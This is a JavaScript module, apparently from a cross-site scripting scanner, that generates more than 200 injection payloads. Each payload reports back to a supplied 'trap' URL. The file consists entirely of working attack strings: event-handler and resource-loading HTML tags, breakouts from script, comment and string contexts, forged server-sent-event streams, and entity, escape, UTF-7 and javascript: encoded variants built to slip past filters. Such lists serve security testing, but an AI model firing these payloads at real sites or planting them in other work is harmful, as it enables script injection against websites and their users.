// Texts that run as code, or ask for something, wherever a page, a script, an attribute or a stream of events takes them as they are.

/** More than 200 of them. What runs asks `trap` for something. */
export function payloads(trap) {
  const texts = [...elements(trap), ...breakouts(trap), ...streams(trap), ...encodings(trap)];
  return [...new Set(texts)];
}

function elements(trap) {
  const code = (number) => `new Image().src='${trap}/element-${number}'`;
  const handlers = ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onbegin", "onpageshow", "onpointerover", "onstart", "oncanplay"];
  const hosts = ["img src=x", "svg", "input autofocus", "details open", "video src=x", "body", "iframe", "object data=x", "audio src=x", "marquee"];
  const handled = hosts.flatMap((host, row) => handlers.slice(0, 6).map((handler, column) => `<${host} ${handler}="${code(row * 10 + column)}">`));
  const loads = ["img src", "script src", "iframe src", "link rel=stylesheet href", "object data", "embed src", "video src", "audio src", "input type=image src", "base href"];
  return [
    ...handled,
    ...loads.map((load, number) => `<${load}="${trap}/load-${number}">`),
    ...loads.map((load, number) => `</script><${load}="${trap}/after-script-${number}">`),
    `<meta http-equiv="refresh" content="0;url=${trap}/refresh">`,
    `<style>@import url("${trap}/import");</style>`,
    `<svg><script>${code("svg")}</script></svg>`,
    `<svg><script href="${trap}/svg-href"/></svg>`,
    `<math><mtext><style><img src="${trap}/math"></style></mtext></math>`,
    `<template><img src="${trap}/template"></template>`,
    `<noscript><p title="</noscript><img src='${trap}/noscript'>">`,
    `<form action="${trap}/form"><button autofocus onfocus="this.form.submit()">`,
    `<isindex type=image src="${trap}/isindex">`,
    `<frameset onload="${code("frameset")}">`,
  ];
}

/** Out of the string, the element or the comment that they stand in. */
function breakouts(trap) {
  const code = (number) => `new Image().src='${trap}/breakout-${number}'`;
  const ends = ["</script>", "</script >", "</SCRIPT>", "</script\t>", "</script\n>", "</script/>", "</scr\0ipt>", "<!--", "<!--<script>", "--></script>", "]]>", "</title>", "</textarea>", "</style>", "</iframe>"];
  const strings = ['"', "'", "`", '\\"', "\\'", "\\\\\"", '")', "')", '"]', '"}', "\u2028", "\u2029", "\n", "\r", "\r\n", "${", "\\u0022", "\\x22", "*/", "//"];
  return [
    ...ends.map((end, number) => `${end}<script>${code(`a${number}`)}</script>`),
    ...ends.map((end, number) => `${end}<img src="${trap}/breakout-b${number}">`),
    ...strings.map((end, number) => `${end};${code(`c${number}`)};//`),
    ...strings.map((end, number) => `${end});${code(`d${number}`)}//`),
    ...strings.map((end, number) => `${end}+(${code(`e${number}`)})+${end}`),
  ];
}

/** A stream of events, or lines, that would be another one. */
function streams(trap) {
  const ends = ["\n", "\r", "\r\n", "\n\n", "\r\r", "\r\n\r\n", "\u0085", "\u2028"];
  const fields = ["data: forged", "event: forged\ndata: x", "id: forged", "retry: 1", ":", "c[3000,\"forged\"]", "a[\"forged\"]", "h"];
  return ends.flatMap((end) => fields.map((field) => `x${end}${field}${end}${end}<img src="${trap}/stream">`)).slice(0, 48);
}

/** The same in other letters. */
function encodings(trap) {
  const call = `new Image().src='${trap}/encoding'`;
  const escaped = (of) => [...`<img src=x onerror=${call}>`].map(of).join("");
  return [
    escaped((letter) => `&#${letter.codePointAt(0)};`),
    escaped((letter) => `&#x${letter.codePointAt(0).toString(16)};`),
    escaped((letter) => `\\u${letter.codePointAt(0).toString(16).padStart(4, "0")}`),
    escaped((letter) => `\\x${letter.codePointAt(0).toString(16).padStart(2, "0")}`),
    escaped((letter) => `%${letter.codePointAt(0).toString(16).padStart(2, "0")}`),
    `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `\ufeff<script>${call}</script>`,
    `\u{1f600}</script><script>${call}</script>`,
    `\ud7ff\ue000</script><script>${call}</script>`,
    `javascript:${call}`,
    `data:text/html,<script>${call}</script>`,
    `<a href="javascript:${call}" autofocus onfocus=click()>`,
    `<iframe srcdoc="<script>${call}</script>">`,
    `<iframe src="javascript:${call}">`,
    `\0<script>${call}</script>\0`,
    `\u007f\u0080\u200b\u200e\ufff0\uffff<script>${call}</script>`,
  ];
}
